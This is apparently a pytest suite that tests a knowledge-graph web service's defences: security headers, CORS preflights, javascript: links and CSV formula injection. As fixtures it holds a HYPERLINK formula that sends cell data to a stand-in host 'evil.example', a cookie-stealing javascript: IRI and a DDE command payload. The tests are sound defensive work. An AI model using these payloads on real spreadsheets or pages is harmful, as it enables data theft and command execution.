"""What a browser or a spreadsheet makes of the service's answers: the security headers on every
route, CORS preflights (Private Network Access included) for reads, no `javascript:` link from the
data, and CSV cells that a spreadsheet shows instead of running — on every CSV route. Against a live
service over two corpus documents whose titles were written as a formula."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pyoxigraph as ox
import pytest
from live_service import search_ready, serve
from starlette.routing import BaseRoute, Mount

from bench.pages import page_paths
from ingest.ontology import load_ontology
from ingest.pipeline import ingest_file
from ingest.store.embedded import EmbeddedStore
from service.app import create_app
from service.config import Settings
from service.curated import load_library
from service.middleware import CONTENT_SECURITY_POLICY
from service.sparql.formats import FORMULA_STARTS, NUMBER, spreadsheet_safe

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
ELI_TITLE = "http://data.europa.eu/eli/ontology#title"
SEE_ALSO = "http://www.w3.org/2000/01/rdf-schema#seeAlso"
NOTE = "https://w3id.org/policykg/id/test/note"
BROWSER = "text/html,application/xhtml+xml,*/*;q=0.8"
IN_FORCE = "2024-06-01"


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory, corpus_files: list[Path]) -> Path:
    """Two corpus documents; every title is a formula, and a note in a policy's graph links a
    `javascript:` IRI."""
    path = tmp_path_factory.mktemp("web-safety") / "store"
    writer = EmbeddedStore(path)
    for file in corpus_files[:2]:
        ingest_file(writer, file)
    load_ontology(writer)
    writer.close()
    data = ox.Store(str(path))
    titles = list(data.quads_for_pattern(None, ox.NamedNode(ELI_TITLE), None, None))
    for quad in titles:
        data.remove(quad)
        data.add(ox.Quad(quad.subject, quad.predicate, ox.Literal(FORMULA), quad.graph_name))
    graph = titles[0].graph_name
    for target in ("javascript:alert(document.cookie)", "http://example.org/elsewhere"):
        data.add(ox.Quad(ox.NamedNode(NOTE), ox.NamedNode(SEE_ALSO), ox.NamedNode(target), graph))
    data.flush()
    del data
    return path


@pytest.fixture(scope="module")
def base(store: Path) -> Iterator[str]:
    with serve(create_app(Settings(store, query_workers=1))) as url:
        search_ready(url)
        yield url


def samples(store: Path) -> list[tuple[str, dict[str, str]]]:
    """A request for every kind of page and endpoint: the pages of bench/pages.py (one resource of each
    kind), each curated query and its export, the API, static files and errors."""
    found = [(path, params) for _, path, params in page_paths(ox.Store.read_only(str(store)))]
    for name in load_library():
        found += [(f"/queries/{name}", {}), (f"/queries/{name}/export", {"format": "csv"})]
    found += [("/sparql", {"query": "ASK {}"}), ("/sparql", {"query": "ASK {"}), ("/health", {}),
              ("/dump", {}), ("/ontology", {}), ("/def", {}), ("/def/Policy", {}), ("/openapi.json", {}),
              ("/redoc", {}), ("/compare", {}), ("/search/export.csv", {"q": "知识产权"}),
              ("/static/css/site.css", {}), ("/no-such-page", {}), ("/id/no-such-thing", {})]
    return found


def routes(candidates: list[BaseRoute]) -> Iterator[BaseRoute]:
    """Every route of the app, those of included routers too."""
    for route in candidates:
        included = getattr(route, "original_router", None)
        yield from routes(included.routes) if included is not None else [route]


def test_every_route_is_sampled(store: Path) -> None:
    paths = [path for path, _ in samples(store)]
    app = create_app(Settings(store))
    unsampled = [route.path for route in routes(app.routes)
                 if not any(_matches(route, path) for path in paths)]
    assert unsampled == []


def _matches(route: BaseRoute, path: str) -> bool:
    if isinstance(route, Mount):
        return path.startswith(route.path + "/")
    pattern: re.Pattern[str] | None = getattr(route, "path_regex", None)
    return pattern is not None and pattern.match(path) is not None


@pytest.mark.parametrize("accept", [BROWSER, "application/json"])
def test_every_response_carries_the_security_headers(base: str, store: Path, accept: str) -> None:
    with httpx.Client(base_url=base, timeout=60) as client:
        for path, params in samples(store):
            response = client.get(path, params=params, headers={"Accept": accept})
            assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY, path
            assert response.headers["x-content-type-options"] == "nosniff", path
            assert response.headers["x-frame-options"] == "DENY", path
    assert "script-src 'self';" in CONTENT_SECURITY_POLICY


@pytest.mark.parametrize(("path", "method", "headers"), [
    ("/sparql", "POST", "content-type"),
    ("/sparql", "GET", "accept"),
    ("/queries/policies-in-force", "GET", "accept"),
    ("/search", "GET", "accept"),
])
def test_cors_preflights_for_reads_from_elsewhere(base: str, path: str, method: str, headers: str) -> None:
    """A hosted query editor on a public origin reaching this service on an intranet: Chrome's
    preflight asks for private-network access too."""
    preflight = httpx.options(f"{base}{path}", headers={
        "Origin": "https://yasgui.example", "Access-Control-Request-Method": method,
        "Access-Control-Request-Headers": headers, "Access-Control-Request-Private-Network": "true"})
    assert preflight.status_code == 200
    assert preflight.headers["access-control-allow-origin"] == "*"
    assert method in preflight.headers["access-control-allow-methods"]
    assert headers in preflight.headers["access-control-allow-headers"].lower()
    assert preflight.headers["access-control-allow-private-network"] == "true"
    plain = httpx.options(f"{base}{path}", headers={"Origin": "https://yasgui.example",
                                                    "Access-Control-Request-Method": method})
    assert "access-control-allow-private-network" not in plain.headers


def test_the_cross_origin_read_itself(base: str) -> None:
    response = httpx.post(f"{base}/sparql", content="ASK {}", headers={
        "Origin": "https://yasgui.example", "Content-Type": "application/sparql-query"})
    assert response.status_code == 200
    assert response.headers["access-control-allow-origin"] == "*"


def test_a_javascript_iri_in_the_data_is_no_link(base: str) -> None:
    page = httpx.get(f"{base}/id/test/note", headers={"Accept": BROWSER})
    assert page.status_code == 200
    assert "javascript:alert(document.cookie)" in page.text, "shown as text"
    assert 'href="http://example.org/elsewhere"' in page.text, "an http IRI stays a link"
    assert not re.search(r"""href\s*=\s*["']?\s*javascript:""", page.text, re.IGNORECASE)


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-5", "-5"), ("+1.5e3", "+1.5e3"), ("-.5", "-.5"),
    ("知识产权局", "知识产权局"), ("a=b", "a=b"), ("", ""),
])
def test_a_cell_that_begins_like_a_formula_is_shown_as_text(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def csv_cells(response: httpx.Response) -> list[str]:
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(response.text.removeprefix("\ufeff"))) for cell in row]


def csv_routes(base: str) -> dict[str, httpx.Response]:
    """Every way the service gives out CSV, each asked for rows that hold the formula title."""
    titles = f"SELECT ?title WHERE {{ ?p <{ELI_TITLE}> ?title }}"
    found: dict[str, Any] = {
        "/sparql": httpx.get(f"{base}/sparql", params={"query": titles}, headers={"Accept": "text/csv"}),
        "/search/export.csv": httpx.get(f"{base}/search/export.csv", params={"q": "知识产权"}, timeout=60),
    }
    policy = httpx.get(f"{base}/sparql", params={"query": f"SELECT ?p {{ ?p <{ELI_TITLE}> ?t }} LIMIT 1"})
    required = {"policy": policy.json()["results"]["bindings"][0]["p"]["value"]}
    for query in load_library().values():
        params = {"format": "csv"} | {p.name: required[p.name] for p in query.parameters if p.required}
        if query.name == "policies-in-force":
            params["date"] = IN_FORCE  # a day the corpus policies were in force (by today they have ended)
        for path in (f"/queries/{query.name}", f"/queries/{query.name}/export"):
            found[path] = httpx.get(f"{base}{path}", params=params, timeout=60)
    return found


def test_no_csv_route_gives_a_cell_a_spreadsheet_would_run(base: str) -> None:
    answers = csv_routes(base)
    for route, response in answers.items():
        cells = csv_cells(response)
        running = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]
        assert running == [], route
    for route in ("/sparql", "/search/export.csv", "/queries/policies-in-force",
                  "/queries/policies-in-force/export"):
        assert "'" + FORMULA in csv_cells(answers[route]), route
